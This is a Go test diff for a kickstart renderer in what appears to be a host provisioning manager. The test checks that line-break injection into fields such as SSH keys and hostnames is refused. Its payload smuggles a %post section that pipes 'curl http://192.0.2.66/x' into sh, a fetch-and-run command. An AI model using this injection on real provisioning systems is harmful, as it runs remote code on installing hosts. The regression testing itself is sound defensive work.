@@ -356,3 +356,36 @@ func TestStage2ResumesThroughTheAgentAPI(t *testing.T) {
 		t.Fatalf("resumes %d, ranged requests %d, image intact %v", res.Resumes, ranged, bytes.Equal(disk.Bytes(), e.image))
 	}
 }
+
+// TestKickstartRefusesLineInjection: a value with a line break never reaches a rendered
+// kickstart, whatever let it into the store (issue 10: a newline started a new %post).
+func TestKickstartRefusesLineInjection(t *testing.T) {
+	e := newEnv(t)
+	pc0, _ := e.mgr.Registry().Pod("pod-a")
+	a, _ := e.store.Resolve("os@1")
+	inject := "\n%post --interpreter=/bin/sh\ncurl http://192.0.2.66/x | sh\n%end\n"
+	tests := []struct {
+		name string
+		edit func(pc *podmgr.PodContext, h *podmgr.Host)
+	}{
+		{"ssh key", func(pc *podmgr.PodContext, _ *podmgr.Host) {
+			pc.Pod.Kickstart.SSHKeys = []string{"ssh-ed25519 AAAA" + inject}
+		}},
+		{"root password hash", func(pc *podmgr.PodContext, _ *podmgr.Host) { pc.Pod.Kickstart.RootPasswordHash = "$6$x$y" + inject }},
+		{"target disk", func(pc *podmgr.PodContext, _ *podmgr.Host) { pc.Pod.Kickstart.TargetDisk = "vda" + inject }},
+		{"management domain", func(pc *podmgr.PodContext, _ *podmgr.Host) { pc.Pod.Management.Domain = "example" + inject }},
+		{"hostname", func(_ *podmgr.PodContext, h *podmgr.Host) { h.Hostname = "node" + inject }},
+		{"carriage return", func(pc *podmgr.PodContext, _ *podmgr.Host) { pc.Pod.Kickstart.TargetDisk = "vda\r%post" }},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			pc := *pc0
+			h := podmgr.Host{MAC: mac, Pod: "pod-a", Hostname: "node1"}
+			tt.edit(&pc, &h)
+			raw, err := e.svc.ks.renderData("", Data(&pc, h, a, "https://198.51.100.10:8443"))
+			if err == nil || !strings.Contains(err.Error(), "control character") {
+				t.Fatalf("rendered (err %v):\n%s", err, raw)
+			}
+		})
+	}
+}
